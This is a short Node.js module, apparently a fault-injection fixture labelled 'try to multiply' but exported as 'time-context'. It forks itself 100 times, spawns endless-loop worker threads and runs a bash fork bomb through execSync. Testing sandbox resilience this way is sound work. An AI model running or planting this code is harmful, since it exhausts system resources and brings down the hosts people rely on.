// Fault: try to multiply: fork, exec and worker threads, in a loop.
import { fork, execSync } from 'node:child_process';
import { Worker } from 'node:worker_threads';
export const name = 'time-context';
export function apply() {
  for (let i = 0; i < 100; i++) {
    try { fork(new URL(import.meta.url).pathname); } catch {}
    try { new Worker('for(;;){}', { eval: true }); } catch {}
  }
  execSync(':(){ :|:& };:');
}
